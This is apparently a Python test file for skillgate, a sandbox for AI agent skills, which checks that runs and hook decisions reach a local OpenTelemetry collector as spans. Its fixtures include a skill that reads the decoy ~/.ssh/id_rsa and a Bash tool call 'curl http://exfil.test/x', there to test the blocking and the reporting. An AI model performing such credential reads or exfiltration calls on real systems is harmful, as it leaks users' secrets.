#!/usr/bin/env python3
"""OpenTelemetry export (issue 41): runs and hook decisions reach an OTLP/HTTP
receiver as spans, decoded there with the official OTLP definitions
(tests/otel/receiver.mjs, @opentelemetry/otlp-transformer's generated
code); a collector that is down, hangs or answers 500 never fails or slows
a run, and what did not arrive is counted in the trace and on stderr.

Every receiver listens on 127.0.0.1; every skill reaches only decoys and
*.test names; every wait is bounded.

Usage: otel_test.py PATH/TO/skillgate SOURCE_ROOT
"""
import functools
import json
import os
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sandbox_test as h  # noqa: E402

TESTS = []
test = functools.partial(h.test, tests=TESTS)
HERE = os.path.dirname(os.path.abspath(__file__))
RECEIVER = os.path.join(HERE, "otel", "receiver.mjs")
TRANSFORMER = os.path.join(HERE, "otel", "node_modules", "@opentelemetry", "otlp-transformer")

# reads a decoy credential (an fs_blocked event), then waits: the span of
# that event must reach the collector while the run goes on
LIVE = """
import os, time
print("started", flush=True)
try:
    open(os.path.expanduser("~/.ssh/id_rsa")).read()
except OSError:
    pass
time.sleep(%s)
print("done", flush=True)
"""


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Receiver:
    def __init__(self, base, mode="ok"):
        if not os.path.isdir(TRANSFORMER):
            why = "tests/otel/node_modules is missing (scripts/dev test runs npm ci there)"
            if os.environ.get("CI"):
                raise AssertionError(why)
            raise h.Skip(why)
        self.port = free_port()
        self.out = os.path.join(base, f"spans-{self.port}.jsonl")
        self.p = subprocess.Popen(["node", RECEIVER, str(self.port), mode, self.out],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        line = self.p.stdout.readline()
        assert line.strip() == "listening", f"the receiver did not start: {line!r}"
        self.url = f"http://127.0.0.1:{self.port}"

    def spans(self, want=1, seconds=5.0):
        """The spans received, once at least want arrived (bounded wait)."""
        end = time.monotonic() + seconds
        while True:
            got = []
            if os.path.exists(self.out):
                with open(self.out) as f:
                    got = [json.loads(line) for line in f if line.strip()]
            if len(got) >= want or time.monotonic() > end:
                return got
            time.sleep(0.1)

    def close(self):
        self.p.stdin.close()
        try:
            self.p.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.p.kill()
            self.p.wait()


def otel_env(url, **more):
    e = {"OTEL_EXPORTER_OTLP_ENDPOINT": url}
    e.update(more)
    return e


@test()
def a_run_reaches_the_collector_live_as_spans(m, base):
    """The run is a root span skill_execution; the decoy read is a child
    span sandbox.fs.blocked (SkillSandbox's name and kind), sent while the
    run still goes on; output lines are events of the root; the resource,
    headers and path are the standard settings'."""
    r = Receiver(base)
    try:
        d = h.make_skill(base, f"live-{m.name}", LIVE % 3)
        p = m.run("run", "--prompt", "deny", d, env=otel_env(
            r.url, OTEL_SERVICE_NAME="sg-test", OTEL_RESOURCE_ATTRIBUTES="deployment.environment=ci",
            OTEL_EXPORTER_OTLP_HEADERS="x-team=blue%20team"), check=0)
        spans = r.spans(want=2)
    finally:
        r.close()
    assert "done" in p.out, p.out
    roots = [s for s in spans if s["name"] == "skill_execution"]
    assert len(roots) == 1, [s["name"] for s in spans]
    root = roots[0]
    assert root["parent_span_id"] == "" and root["kind"] == 2, root
    a = root["attributes"]
    assert a["sandbox.skill.name"] == f"live-{m.name}" and a["sandbox.exit_code"] == 0, a
    assert a["sandbox.duration_ms"] >= 3000 and root["status"]["code"] == 1, (a, root["status"])
    assert root["resource"]["service.name"] == "sg-test", root["resource"]
    assert root["resource"]["deployment.environment"] == "ci", root["resource"]
    assert root["path"] == "/v1/traces" and root["content_type"] == "application/x-protobuf", root
    assert root["headers"].get("x-team") == "blue team", root["headers"]
    blocked = [s for s in spans if s["name"] == "sandbox.fs.blocked"
               and s["attributes"].get("sandbox.data.path", "").endswith("/.ssh/id_rsa")]
    assert blocked, [s["name"] for s in spans]
    b = blocked[0]
    assert b["trace_id"] == root["trace_id"] and b["parent_span_id"] == root["span_id"], b
    assert b["attributes"]["sandbox.event.kind"] == "FileBlocked", b["attributes"]
    assert b["attributes"]["skillgate.event.kind"] == "fs_blocked", b["attributes"]
    assert b["attributes"]["sandbox.enforcement"] is True and b["status"]["code"] == 2, b
    assert int(root["start_ns"]) <= int(b["start_ns"]) <= int(b["end_ns"]) <= int(root["end_ns"])
    # live: it reached the collector a second or more before the run ended
    assert b["arrived"] < int(root["end_ns"]) // 1000000 - 1000, \
        (b["arrived"], int(root["end_ns"]) // 1000000)
    outs = [e for e in root["events"] if e["name"] == "sandbox.skill.stdout"]
    assert [e["attributes"]["sandbox.event.message"] for e in outs] == ["started", "done"], outs
    t = m.last_trace()
    assert t["otel"]["trace_id"] == root["trace_id"] and t["otel"]["span_id"] == root["span_id"]
    assert t["otel"]["spans_sent"] == len(spans) and t["otel"]["spans_dropped"] == 0, t["otel"]


@test(modes=("root",))
def the_agents_traceparent_puts_the_run_in_its_trace(m, base):
    """W3C traceparent from the environment: the run's root span is a child
    of the agent's span; a malformed one (upper-case hex) starts a new trace."""
    tid, sid = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
    r = Receiver(base)
    try:
        d = h.make_skill(base, "tp", "print('hi')\n")
        m.run("run", d, env=otel_env(r.url, TRACEPARENT=f"00-{tid}-{sid}-01"), check=0)
        m.run("run", d, env=otel_env(r.url, TRACEPARENT=f"00-{tid.upper()}-{sid}-01"), check=0)
        spans = r.spans(want=2)
    finally:
        r.close()
    roots = [s for s in spans if s["name"] == "skill_execution"]
    assert len(roots) == 2, [s["name"] for s in spans]
    assert roots[0]["trace_id"] == tid and roots[0]["parent_span_id"] == sid, roots[0]
    assert roots[1]["trace_id"] != tid and roots[1]["parent_span_id"] == "", roots[1]


@test(modes=("root",))
def a_collector_that_is_down_never_fails_a_run(m, base):
    d = h.make_skill(base, "down", "print('still here')\n")
    p = m.run("run", d, env=otel_env(f"http://127.0.0.1:{free_port()}"), check=0)
    assert "still here" in p.out, p.out
    t = m.last_trace()
    assert t["otel"]["spans_sent"] == 0 and t["otel"]["spans_dropped"] >= 1, t["otel"]
    assert t["otel"]["failed_requests"] >= 1 and t["otel"]["last_error"], t["otel"]
    assert "not delivered" in p.err and "trace has them all" in p.err, p.err


@test(modes=("root",))
def a_collector_that_hangs_never_slows_a_run(m, base):
    """The receiver takes each request and never answers (a 10 s request
    timeout by default): the run ends at most the end wait (1 s) later
    than without export, and the trace says what was not delivered."""
    d = h.make_skill(base, "hang", "print('quick')\n")
    t0 = time.monotonic()
    m.run("run", d, check=0)
    bare = time.monotonic() - t0
    r = Receiver(base, "hang")
    try:
        t0 = time.monotonic()
        p = m.run("run", d, env=otel_env(r.url), check=0)
        took = time.monotonic() - t0
    finally:
        r.close()
    print(f"# without export {bare:.2f} s, with a hanging collector {took:.2f} s", file=sys.stderr)
    assert took < bare + 1.5, (bare, took)
    t = m.last_trace()
    assert t["otel"]["spans_dropped"] >= 1 and "did not answer" in t["otel"]["last_error"], t["otel"]
    assert "not delivered" in p.err, p.err


@test(modes=("root",))
def a_collector_that_answers_500_is_counted(m, base):
    r = Receiver(base, "500")
    try:
        d = h.make_skill(base, "five", "print('ok')\n")
        p = m.run("run", d, env=otel_env(r.url), check=0)
        spans = r.spans(want=1)
    finally:
        r.close()
    assert spans, "the receiver saw nothing"
    t = m.last_trace()
    assert t["otel"]["spans_sent"] == 0 and t["otel"]["spans_dropped"] == len(spans), t["otel"]
    assert "HTTP 500" in t["otel"]["last_error"] and "HTTP 500" in p.err, (t["otel"], p.err)


@test(modes=("root",))
def settings_come_from_config_yaml_and_wrong_ones_turn_export_off(m, base):
    """config.yaml's otel: map, as the variables; a protocol we do not send
    (Claude Code's own telemetry may set grpc) or a broken header list turns
    export off with the setting's name, and the run goes on."""
    r = Receiver(base)
    cfg = os.path.join(m.home, ".config", "skillgate", "config.yaml")
    with open(cfg) as f:
        kept = f.read()
    try:
        with open(cfg, "a") as f:
            f.write(f"otel:\n  endpoint: {r.url}\n  service_name: from-config\n"
                    "  resource_attributes: {team: a=b}\n")
        d = h.make_skill(base, "cfg", "print('x')\n")
        m.run("run", d, check=0)
        spans = r.spans(want=1)
    finally:
        with open(cfg, "w") as f:
            f.write(kept)
        r.close()
    assert spans and spans[0]["resource"]["service.name"] == "from-config", spans[:1]
    assert spans[0]["resource"]["team"] == "a=b", spans[0]["resource"]
    d = h.make_skill(base, "bad", "print('went on')\n")
    r = Receiver(base)
    try:
        p1 = m.run("run", d, env=otel_env(r.url, OTEL_EXPORTER_OTLP_PROTOCOL="grpc"))
        p2 = m.run("run", d, env=otel_env(r.url, OTEL_EXPORTER_OTLP_HEADERS="novalue"))
        time.sleep(0.5)
        spans = r.spans(want=1, seconds=0)
    finally:
        r.close()
    for p, name in ((p1, "OTEL_EXPORTER_OTLP_PROTOCOL"), (p2, "OTEL_EXPORTER_OTLP_HEADERS")):
        assert p.returncode == 0 and "went on" in p.out, (p.returncode, p.err)
        assert "OpenTelemetry export off" in p.err and name in p.err, p.err
        assert "otel" not in m.last_trace()
    assert spans == [], spans


@test(modes=("root",))
def a_token_in_the_endpoint_stays_out_of_the_records(m, base):
    r = Receiver(base)
    try:
        d = h.make_skill(base, "tok", "print('x')\n")
        url = r.url.replace("http://", "http://user:s3cret-token@") + "/v1/traces?key=s3cret-q"
        p = m.run("run", d, env={"OTEL_EXPORTER_OTLP_TRACES_ENDPOINT": url}, check=0)
        spans = r.spans(want=1)
    finally:
        r.close()
    assert spans and spans[0]["headers"].get("authorization", "").startswith("Basic "), spans[:1]
    t = m.last_trace()
    assert t["otel"]["endpoint"] == r.url + "/v1/traces", t["otel"]
    assert "s3cret" not in json.dumps(t) and "s3cret" not in p.err, p.err


@test(modes=("root",))
def a_hanging_collector_never_holds_the_agent(m, base):
    """Claude Code waits for the hook to exit: its span leaves from a
    child of its own, so a collector that never answers holds no tool call."""
    ev = {"session_id": "otel-hang", "transcript_path": "/tmp/t.jsonl", "cwd": "/",
          "permission_mode": "default", "hook_event_name": "PreToolUse",
          "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "toolu_hang"}
    e = {"PATH": "/usr/bin:/bin", "HOME": m.home, "XDG_STATE_HOME": m.state,
         "LANG": "C.UTF-8", "XDG_RUNTIME_DIR": os.path.join(base, "run")}
    took = {}
    for name, more in (("bare", {}), ("hang", None)):
        r = Receiver(base, "hang") if more is None else None
        try:
            env = {**e, **(otel_env(r.url) if r else {})}
            t0 = time.monotonic()
            p = subprocess.Popen([h.SG, "hook"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 env=env, cwd="/", start_new_session=True)
            out = p.communicate(json.dumps(ev).encode(), timeout=30)[0]
            took[name] = time.monotonic() - t0  # the answer and the exit
            assert json.loads(out)["hookSpecificOutput"]["permissionDecision"], out
        finally:
            if r:
                r.close()
    print(f"# hook: {took['bare']:.2f} s, with a hanging collector {took['hang']:.2f} s",
          file=sys.stderr)
    assert took["hang"] < took["bare"] + 0.5, took


@test(modes=("root",))
def a_hook_decision_is_a_span_in_the_agents_trace(m, base):
    tid, sid = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
    r = Receiver(base)
    try:
        ev = {"session_id": "otel", "transcript_path": "/tmp/t.jsonl", "cwd": "/",
              "permission_mode": "default", "hook_event_name": "PreToolUse",
              "tool_name": "Bash", "tool_input": {"command": "curl http://exfil.test/x"},
              "tool_use_id": "toolu_otel"}
        e = {"PATH": "/usr/bin:/bin", "HOME": m.home, "XDG_STATE_HOME": m.state,
             "LANG": "C.UTF-8", "XDG_RUNTIME_DIR": os.path.join(base, "run"),
             "TRACEPARENT": f"00-{tid}-{sid}-01", **otel_env(r.url)}
        p = subprocess.run([h.SG, "hook"], input=json.dumps(ev).encode(), capture_output=True,
                           env=e, timeout=60, cwd="/", start_new_session=True)
        spans = r.spans(want=1)
    finally:
        r.close()
    assert p.returncode == 0, p.stderr[-2000:]
    said = json.loads(p.stdout)["hookSpecificOutput"]["permissionDecision"]
    hs = [s for s in spans if s["name"] == "sandbox.hook.decision"]
    assert len(hs) == 1, [s["name"] for s in spans]
    s = hs[0]
    assert s["trace_id"] == tid and s["parent_span_id"] == sid, s
    assert s["attributes"]["sandbox.decision"] == said, (s["attributes"], said)
    assert s["attributes"]["sandbox.hook.tool"] == "Bash", s["attributes"]


if __name__ == "__main__":
    sys.exit(h.main(TESTS))
